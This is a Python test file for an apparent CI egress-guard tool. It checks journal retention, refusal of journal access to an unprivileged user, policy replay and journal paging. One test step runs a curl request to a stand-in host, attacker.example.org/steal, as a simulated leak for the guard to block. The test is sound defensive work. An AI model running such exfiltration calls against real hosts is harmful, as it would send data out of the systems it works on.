"""A job's journal is kept beside its report, whole, and for nobody but the runner and root."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ebbgate.events.reading import read_run
from ebbgate.events.types import Armed, DecisionRecord, Exchange, RunStarted
from ebbgate.policy.load import load_texts
from ebbgate.policy.replay import replay
from ebbgate.warden.job_report import MAX_PAGE, ending, journal_page
from tests.job.guarded import STATE, Job
from tests.machine import Machine


@pytest.mark.root
def test_the_verdict_keeps_the_journal_of_a_job(machine: Machine, tmp_path: Path) -> None:
    with Job(machine, allow="api.example.com") as job:
        assert "got GET /hello" in job.step(["curl", "-sS", "https://api.example.com/hello"], name="fetch").stdout
        job.step(["curl", "-sS", "https://attacker.example.org/steal"], name="leak")
        assert job.verdict().code == 90
        (tmp_path / "events.jsonl").write_text(machine.read("/tmp/verdict/events.jsonl"))
        kept = [json.loads(line) for line in (tmp_path / "events.jsonl").read_text().splitlines()]
        assert [one for one in kept if one["kind"] == "Exchange"] == job.events("Exchange")
        nobody = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--"]
        as_nobody = (
            "from ebbgate.warden.control import ask; from pathlib import Path\n"
            f"print(ask(Path({STATE!r}), {{'type': 'journal', 'from': 0}}, timeout=9)['type'])"
        )
        assert "refused" in machine.run([*nobody, machine.python, "-c", as_nobody], user="root").stdout
    run = read_run(tmp_path)
    assert (run.started.repository, run.started.job) == ("octo/demo", "build")
    own = load_texts((), job="", allow=["api.example.com"], given_by="input ")
    replayed = list(replay(own, run))
    assert {one.after.decision.reason for one in replayed} >= {"rule", "no-rule"}
    assert [one.after.decision for one in replayed] == [one.before.decision for one in replayed]


def test_a_long_journal_is_told_in_pages() -> None:
    long = "x" * 4000
    events = [
        RunStarted("1", "enforce", "job", (), "", ()),
        Armed(1.0, "job"),
        *(
            Exchange(str(number), "tls", "h.example.org", 443, "203.0.113.9", "GET", f"/{long}", 200, DecisionRecord("allow", "rule"),
                     True, False, False, 9, 9, 0, "full", "")
            for number in range(2500)
        ),
    ]  # fmt: skip
    lines: list[str] = []
    following = pages = 0
    while following >= 0:
        page = journal_page(events[following:], following, len(events), ending(1.0, complete=True, uninspected=0, dropped=0))
        assert sum(map(len, page["lines"])) <= MAX_PAGE + (1 << 16)
        lines += page["lines"]
        following, pages = page["next"], pages + 1
    assert pages > 2
    assert [json.loads(line)["seq"] for line in lines] == list(range(len(events) + 2))
    assert [json.loads(line)["kind"] for line in lines[-2:]] == ["CommandEnded", "RunEnded"]
